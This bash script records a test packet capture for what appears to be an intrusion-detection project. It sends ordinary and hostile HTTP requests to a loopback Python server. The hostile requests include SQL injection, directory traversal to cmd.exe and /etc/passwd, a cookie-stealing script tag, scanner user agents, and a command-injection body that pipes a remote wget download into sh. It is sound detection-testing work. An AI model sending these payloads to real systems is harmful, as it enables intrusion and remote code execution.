#!/usr/bin/env bash
# Records tests/TestData/capture/http-et.pcapng: curl and raw sockets against Python's
# http.server on loopback — ordinary requests, cookies, POST bodies (Content-Length and chunked),
# pipelined requests, HEAD, and hostile requests public rule sets (ET Open) alert on: SQL
# injection in the URI, /cmd.exe and /system32/, script tags, sqlmap's and curl's User-Agent, a
# unicode directory traversal. Kept for provenance; the committed capture is what tests use.
set -euo pipefail
out=${1:-tests/TestData/capture/http-et.pcapng}
port=18081
work=$(mktemp -d)
mkdir -p "$work/www" && echo "hello from aznf" > "$work/www/index.html"
cat > "$work/server.py" <<'PY'
import http.server, sys
class Handler(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            body = b""
            while True:
                size = int(self.rfile.readline().strip(), 16)
                if size == 0:
                    self.rfile.readline(); break
                body += self.rfile.read(size); self.rfile.readline()
        else:
            body = self.rfile.read(length)
        reply = b"<html><body>got " + str(len(body)).encode() + b" bytes</body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Set-Cookie", "session=abc123; HttpOnly")
        self.send_header("Content-Length", str(len(reply)))
        self.end_headers(); self.wfile.write(reply)
    def log_message(self, *args): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
PY
(cd "$work/www" && exec python3 "$work/server.py" "$port") & server=$!
dumpcap -q -i lo -f "tcp port $port" -w "$out" & capture=$!
sleep 2
base="http://127.0.0.1:$port"
curl -s -o /dev/null "$base/"
curl -s -o /dev/null -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" -b "theme=dark; id=42" "$base/index.html?q=ordinary"
curl -s -o /dev/null -I "$base/index.html"
curl -s -o /dev/null "$base/search.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
curl -s -o /dev/null "$base/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir" --path-as-is
curl -s -o /dev/null "$base/index.php?page=../../../../etc/passwd" --path-as-is
curl -s -o /dev/null "$base/comment.php?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
curl -s -o /dev/null -A "sqlmap/1.7.2#stable (https://sqlmap.org)" "$base/item.php?id=2"
curl -s -o /dev/null -A "Nikto/2.5.0" "$base/admin/"
curl -s -o /dev/null -X POST --data "user=admin&pass=' OR '1'='1" "$base/login.php"
curl -s -o /dev/null -X POST -H "Transfer-Encoding: chunked" --data-binary "cmd=;wget http://198.51.100.7/x.sh -O- | sh" "$base/cgi-bin/upload.cgi"
curl -s -o /dev/null -H "Host: example.com:18081" -H "X-Forwarded-For: 127.0.0.1" "$base/wp-login.php"
python3 - "$port" <<'PY'
import socket, sys, time
port = int(sys.argv[1])
# two pipelined requests on one connection, the second split across segments
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: pipeline/1\r\n\r\nGET /etc/passwd HTTP/1.1\r\nHo")
time.sleep(0.2)
s.sendall(b"st: 127.0.0.1\r\nUser-Agent: pipeline/2\r\n\r\n")
time.sleep(0.5); s.recv(65536); s.close()
# folded (continuation) header line, on a non-standard port's flow too
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"GET /phpmyadmin/index.php HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/4.0\r\n (compatible; folded)\r\nConnection: close\r\n\r\n")
time.sleep(0.5); s.recv(65536); s.close()
# URI normalisation cases: empty and dot segments, encoded slash and backslash, %u, '+', a bad escape
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"GET /a//b/./c/../d%2fe%5cf\\g/%2e%2e/h?x=%41%u0042+y&z=%zz HTTP/1.1\r\nHost: WWW.Example.ORG\r\nConnection: close\r\n\r\n")
time.sleep(0.5); s.recv(65536); s.close()
# absolute-form request target
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"GET http://Absolute.Example:8080/abs/./path?q=1 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
time.sleep(0.5); s.recv(65536); s.close()
PY
sleep 1
kill $capture; wait $capture 2>/dev/null || true
kill $server; wait $server 2>/dev/null || true
rm -rf "$work"
echo "wrote $out"
